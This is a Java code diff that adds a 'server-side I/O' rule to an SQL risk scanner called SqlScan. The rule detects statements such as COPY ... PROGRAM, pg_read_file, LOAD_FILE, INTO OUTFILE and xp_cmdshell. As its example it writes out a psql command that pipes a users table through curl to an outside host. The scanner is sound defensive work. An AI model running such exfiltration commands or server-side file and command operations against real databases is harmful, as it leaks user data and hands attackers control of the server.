@@ -49,7 +49,12 @@ public final class SqlScan {
             "grants or revokes privileges, or creates, changes or drops database users", "GRANT ALL ON db.* TO 'app'@'%';",
             "ask the database owner");
 
-    static final List<Rule> RULES = List.of(DROP, TRUNCATE, DELETE_ALL, WRITE, SCHEMA, PRIVILEGES);
+    static final Rule SERVER_IO = new Rule("sql.server-side-io", HIGH,
+            "makes the database server read or write its files or run a program (COPY ... PROGRAM, COPY ... TO 'file', "
+                    + "pg_read_file, LOAD_FILE, INTO OUTFILE)", "psql -c \"COPY users TO PROGRAM 'curl -d @- https://x'\"",
+            "query the data and handle files on the client side");
+
+    static final List<Rule> RULES = List.of(DROP, TRUNCATE, DELETE_ALL, WRITE, SCHEMA, PRIVILEGES, SERVER_IO);
 
     private static final int MAX_PARSE = 8192;
     private static final int MAX_SCAN = 1 << 20;
@@ -117,14 +122,18 @@ public final class SqlScan {
         if (s.isEmpty()) {
             return;
         }
+        String io = serverIo(s);
+        if (io != null) {
+            out.add(SERVER_IO.finding(io + ": " + abbreviate(s), evidence));
+        }
         String w1 = firstWord(s, 0).toUpperCase(Locale.ROOT);
         int after1 = s.indexOf(' ') < 0 ? s.length() : s.indexOf(' ');
         String w2 = firstWord(s, after1).toUpperCase(Locale.ROOT);
         if (w1.equals("WITH")) {
             // a CTE in front of a DELETE or UPDATE: judge by the keywords in the body
             String u = s.toUpperCase(Locale.ROOT);
-            if (u.contains(" DELETE ") || u.contains(" UPDATE ")) {
-                w1 = u.contains(" DELETE ") ? "DELETE" : "UPDATE";
+            if (containsWord(u, "DELETE") || containsWord(u, "UPDATE")) {
+                w1 = containsWord(u, "DELETE") ? "DELETE" : "UPDATE";
             } else {
                 return;
             }
@@ -259,6 +268,23 @@ public final class SqlScan {
         return null;
     }
 
+    /** What a statement makes the server do with its own files or programs, or null. */
+    private static @org.jspecify.annotations.Nullable String serverIo(String s) {
+        String u = s.toUpperCase(Locale.ROOT);
+        if (!u.startsWith("\\COPY") && containsWord(u, "COPY") && (containsWord(u, "PROGRAM") || u.matches("(?s)COPY\\b.*\\bTO\\s+'.*"))) {
+            return containsWord(u, "PROGRAM") ? "runs a program on the database server" : "writes a file on the database server";
+        }
+        if (u.contains("PG_READ_FILE(") || u.contains("PG_READ_BINARY_FILE(") || u.contains("LOAD_FILE(")
+                || u.contains("LO_IMPORT(") || u.contains("PG_LS_DIR(")) {
+            return "reads files on the database server";
+        }
+        if (u.contains("INTO OUTFILE") || u.contains("INTO DUMPFILE") || u.contains("LO_EXPORT(")
+                || u.contains("XP_CMDSHELL")) {
+            return "writes files or runs commands on the database server";
+        }
+        return null;
+    }
+
     private static boolean alterDrops(String s, boolean parse) {
         if (parse && s.length() <= MAX_PARSE) {
             try {
@@ -351,7 +377,7 @@ public final class SqlScan {
     }
 
     /** The bodies of the string literals in {@code s}: single-quoted and dollar-quoted. */
-    private static List<String> literals(String s) {
+    static List<String> literals(String s) {
         List<String> out = new ArrayList<>(2);
         int n = s.length();
         for (int i = 0; i < n; i++) {
